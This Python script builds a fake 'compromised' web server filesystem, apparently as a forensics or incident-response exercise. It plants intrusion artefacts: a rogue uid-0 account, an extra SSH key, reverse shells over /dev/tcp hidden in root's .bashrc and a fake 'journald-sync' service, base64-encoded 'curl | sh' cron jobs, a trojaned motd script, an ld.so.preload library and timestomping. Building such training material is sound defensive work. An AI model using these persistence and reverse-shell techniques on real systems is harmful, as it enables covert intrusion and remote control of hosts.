"""Builds the copied root filesystem of the compromised host (deterministic)."""
import base64
import hashlib
import os
import random
import sys

ROOT = sys.argv[1] if len(sys.argv) > 1 else "/srv/rootfs"
INV = sys.argv[2] if len(sys.argv) > 2 else "/srv/inventory"
rng = random.Random(20261119)
OLD = 1788220800      # 2026-09-01
NEW = 1795050000      # 2026-11-19 (the day of the intrusion)


def put(path, data, mode=0o644, root=ROOT):
    full = os.path.join(root, path.lstrip("/"))
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data.encode() if isinstance(data, str) else data)
    os.chmod(full, mode)


def link(path, target):
    full = os.path.join(ROOT, path.lstrip("/"))
    os.makedirs(os.path.dirname(full), exist_ok=True)
    os.symlink(target, full)


def key(comment):
    blob = b"\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20" + bytes(rng.randrange(256) for _ in range(32))
    return "ssh-ed25519 " + base64.b64encode(blob).decode() + " " + comment


def elf(extra=b""):
    body = bytearray(rng.randrange(256) for _ in range(6000))
    pos = rng.randrange(1000, 5000)
    body[pos:pos + len(extra)] = extra
    strings = b"\x00GLIBC_2.2.5\x00__cxa_finalize\x00getenv\x00dlsym\x00"
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + bytes(body) + strings


# --- accounts -------------------------------------------------------------------------------
passwd = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
man:x:6:12:man:/var/cache/man:/usr/sbin/nologin
mail:x:8:8:mail:/var/mail:/usr/sbin/nologin
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
backup:x:34:34:backup:/var/backups:/usr/sbin/nologin
sysbackup:x:0:0:System Backup:/var/backups:/bin/bash
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
deploy:x:1000:1000:Deploy,,,:/home/deploy:/bin/bash
alice:x:1001:1001:Alice Ops,,,:/home/alice:/bin/bash
shop:x:997:997:shop service:/srv/shop:/usr/sbin/nologin
"""
put("/etc/passwd", passwd)
names = [l.split(":")[0] for l in passwd.splitlines()]
shadow = ""
for n in names:
    if n in ("root", "deploy", "alice", "sysbackup"):
        salt = "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./") for _ in range(16))
        h = base64.b64encode(bytes(rng.randrange(256) for _ in range(64))).decode().rstrip("=").replace("+", ".")[:86]
        shadow += f"{n}:$6${salt}${h}:{20300 if n != 'sysbackup' else 20411}:0:99999:7:::\n"
    else:
        shadow += f"{n}:*:20300:0:99999:7:::\n"
put("/etc/shadow", shadow, 0o640)
put("/etc/group", "root:x:0:\ndaemon:x:1:\nbin:x:2:\nsys:x:3:\nadm:x:4:alice\nwww-data:x:33:\nbackup:x:34:\n"
    "sudo:x:27:alice\nnogroup:x:65534:\nsystemd-network:x:998:\nshop:x:997:\ndeploy:x:1000:\nalice:x:1001:\n")
put(INV + "/accounts.txt", "# accounts approved for web03 (CMDB export 2026-10-02)\n# name uid\n"
    + "".join(f"{n} {l.split(':')[2]}\n" for n, l in zip(names, passwd.splitlines()) if n != "sysbackup"), root="/")
put("/etc/hosts", "127.0.0.1\tlocalhost\n10.0.4.12\tbackup01.corp.example\n198.51.100.230\tpartner-api.example\n"
    "::1\tlocalhost ip6-localhost ip6-loopback\n")
put("/etc/hostname", "web03\n")

# --- ssh keys -------------------------------------------------------------------------------
k_dep1, k_dep2, k_alice, k_evil = key("deploy@ci-runner-1"), key("deploy@laptop"), key("alice@thinkpad"), key("deploy@ci-runner-2")
put(INV + "/ssh-keys/deploy.pub", f"{k_dep1}\n{k_dep2.rsplit(' ', 1)[0]} deploy@old-laptop\n", root="/")
put(INV + "/ssh-keys/alice.pub", f"{k_alice}\n", root="/")
put("/home/deploy/.ssh/authorized_keys", f"{k_dep1}\n{k_evil}\n{k_dep2}\n", 0o600)
put("/home/alice/.ssh/authorized_keys", f'from="10.0.0.0/8",no-agent-forwarding {k_alice}\n', 0o600)

# --- shells ---------------------------------------------------------------------------------
put("/root/.bashrc", """# ~/.bashrc: executed by bash(1) for non-login shells.

export LS_OPTIONS='--color=auto'
eval "$(dircolors)"
alias ls='ls $LS_OPTIONS'
alias ll='ls $LS_OPTIONS -l'
alias l='ls $LS_OPTIONS -lA'

HISTSIZE=5000
HISTFILESIZE=10000
[ -x /var/tmp/.font-unix/fc-cache ] && (setsid /var/tmp/.font-unix/fc-cache >/dev/null 2>&1 &)
shopt -s histappend

# Some more alias to avoid making mistakes:
alias rm='rm -i'
alias cp='cp -i'
alias mv='mv -i'
export EDITOR=vim
""")
put("/root/.profile", "if [ \"$BASH\" ]; then\n  if [ -f ~/.bashrc ]; then\n    . ~/.bashrc\n  fi\nfi\nmesg n 2> /dev/null || true\n")
put("/var/tmp/.font-unix/fc-cache", """#!/bin/bash
# fontconfig cache refresher
a=198.51; b=100.23
pgrep -f fc-cache-worker >/dev/null && exit 0
exec -a fc-cache-worker bash -c "exec 3<>/dev/tcp/$a.$b/443; bash -i <&3 >&3 2>&3"
""", 0o755)
put("/var/tmp/.shop-build-cache/index", "v3 7d2f1c shop-assets\n")
put("/home/deploy/.bashrc", """# deploy user
export PATH="$HOME/bin:$PATH"
if [ -z "$SSH_AUTH_SOCK" ]; then
  eval "$(ssh-agent -s)" >/dev/null
fi
alias logs='journalctl -u shop -f'
""")
put("/home/deploy/bin/redeploy", "#!/bin/sh\ncd /srv/shop && git pull --ff-only && sudo systemctl restart shop\n", 0o755)
put("/home/alice/.bashrc", "# alice\nalias k=kubectl\nexport HISTTIMEFORMAT='%F %T '\n")
put("/etc/profile.d/shop-env.sh", "export SHOP_HOME=/srv/shop\nexport SHOP_ENV=production\n")

# --- cron -----------------------------------------------------------------------------------
put("/etc/crontab", "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n\n"
    "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"
    "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )\n")
put("/etc/cron.d/offsite-backup", "30 2 * * * root /usr/local/sbin/offsite-backup >/dev/null 2>&1\n")
put("/etc/cron.d/motd-news", "# from motd-news-lite\n17 */6 * * * root /usr/lib/motd-news/motd-news.sh\n")
put("/usr/local/sbin/offsite-backup", """#!/bin/sh
set -e
tar -czf /var/backups/shop-$(date +%F).tgz /srv/shop/data
curl -fsS --cacert /etc/ssl/corp-ca.pem -T /var/backups/shop-$(date +%F).tgz https://10.0.4.12/upload/web03/
find /var/backups -name 'shop-*.tgz' -mtime +7 -delete
""", 0o755)
put("/var/spool/cron/crontabs/deploy", "# m h dom mon dow command\n0 4 * * * cd /srv/shop && ./bin/rotate-logs\n"
    "15 * * * * echo " + base64.b64encode(b"/usr/bin/shopctl healthcheck --quiet\n").decode() + " | base64 -d | sh\n", 0o600)
put("/var/spool/cron/crontabs/www-data", "*/7 * * * * echo "
    + base64.b64encode(b"curl -fsSk https://198.51.100.23:8443/k | sh\n").decode() + " | base64 -d | sh\n", 0o600)

# --- packages -------------------------------------------------------------------------------
motd_orig = """#!/bin/sh
# motd-news-lite: fetch the news snippet shown at login
[ -r /etc/motd-news.conf ] && . /etc/motd-news.conf
[ "$ENABLED" = 1 ] || exit 0
tmp=$(mktemp)
if curl -fsS --max-time 20 "$URL" -o "$tmp"; then
    head -c 2000 "$tmp" > /var/cache/motd-news
fi
rm -f "$tmp"
"""
motd_bad = motd_orig.replace('rm -f "$tmp"\n', 'rm -f "$tmp"\n(curl -fsS http://0xc6336417:8080/u | sh) >/dev/null 2>&1 &\n')
put("/usr/lib/motd-news/motd-news.sh", motd_bad, 0o755)
put("/etc/motd-news.conf", "ENABLED=1\nURL=https://intranet.corp.example/motd.txt\n")
shopctl = "#!/usr/bin/python3\nimport sys\nprint('shopctl', *sys.argv[1:])\n"
libshop = elf()
copyright_ = "Copyright 2024 Example Corp. GPL-2+\n"
put("/usr/bin/shopctl", shopctl, 0o755)
put("/usr/lib/x86_64-linux-gnu/libshopcache.so.1", libshop)
put("/usr/share/doc/motd-news-lite/copyright", copyright_)
put("/usr/libexec/shop-migrate", "#!/bin/sh\nexec /usr/bin/shopctl migrate \"$@\"\n", 0o755)
md5 = lambda s: hashlib.md5(s.encode() if isinstance(s, str) else s).hexdigest()
put("/var/lib/dpkg/info/motd-news-lite.md5sums", f"{md5(motd_orig)}  usr/lib/motd-news/motd-news.sh\n"
    f"{md5(copyright_)}  usr/share/doc/motd-news-lite/copyright\n")
put("/var/lib/dpkg/info/motd-news-lite.conffiles", "/etc/motd-news.conf\n/etc/cron.d/motd-news\n")
put("/var/lib/dpkg/info/shop-tools.md5sums", f"{md5(shopctl)}  usr/bin/shopctl\n"
    f"{md5(libshop)}  usr/lib/x86_64-linux-gnu/libshopcache.so.1\n"
    f"{md5(open(os.path.join(ROOT, 'usr/libexec/shop-migrate')).read())}  usr/libexec/shop-migrate\n")

# --- preload --------------------------------------------------------------------------------
put("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libpamcache.so.2\n")
put("/usr/lib/x86_64-linux-gnu/libpamcache.so.2", elf(b"\x00" + b"32.001.15.891" + b"\x00pam_sm_authenticate\x00"))
put("/etc/ld.so.conf.d/x86_64-linux-gnu.conf", "/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n")

# --- systemd --------------------------------------------------------------------------------
put("/etc/systemd/system/shop.service", "[Unit]\nDescription=Shop application server\nAfter=network-online.target\n\n"
    "[Service]\nUser=shop\nExecStart=/usr/bin/shopctl serve --port 8080\nExecStartPre=/usr/libexec/shop-migrate\n"
    "Restart=on-failure\n\n[Install]\nWantedBy=multi-user.target\n")
link("/etc/systemd/system/multi-user.target.wants/shop.service", "/etc/systemd/system/shop.service")
put("/etc/systemd/system/journald-sync.service", "[Unit]\nDescription=Journal Sync Daemon\nAfter=network.target\n\n"
    "[Service]\nType=simple\nExecStart=/usr/libexec/journald-sync\nRestart=always\nRestartSec=60\n\n"
    "[Install]\nWantedBy=multi-user.target\n")
link("/etc/systemd/system/multi-user.target.wants/journald-sync.service", "/etc/systemd/system/journald-sync.service")
link("/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service")
put("/lib/systemd/system/ssh.service", "[Unit]\nDescription=OpenBSD Secure Shell server\n\n[Service]\n"
    "ExecStart=/usr/sbin/sshd -D\n\n[Install]\nWantedBy=multi-user.target\n")
hexip = "".join("\\x%02x" % c for c in b"198.51.100.23")
put("/usr/libexec/journald-sync", "#!/bin/bash\n# flush journal to persistent storage\n"
    f"h=$(printf '{hexip}')\nwhile :; do\n  bash -i >& /dev/tcp/$h/4444 0>&1\n  sleep 300\ndone\n", 0o755)
put("/etc/systemd/system/shop.service.d/override.conf", "[Service]\nEnvironment=SHOP_WORKERS=4\n")

# --- timestamps: the intruder stomped theirs; admins worked on the same day -----------------
for d, dirs, files in os.walk(ROOT):
    for n in files + dirs:
        os.utime(os.path.join(d, n), (OLD, OLD), follow_symlinks=False)
for p in ["etc/systemd/system/shop.service.d/override.conf", "var/spool/cron/crontabs/deploy",
          "usr/local/sbin/offsite-backup", "etc/hosts"]:
    os.utime(os.path.join(ROOT, p), (NEW + 3600, NEW + 3600))
os.chmod(os.path.join(ROOT, "var/spool/cron/crontabs"), 0o730)
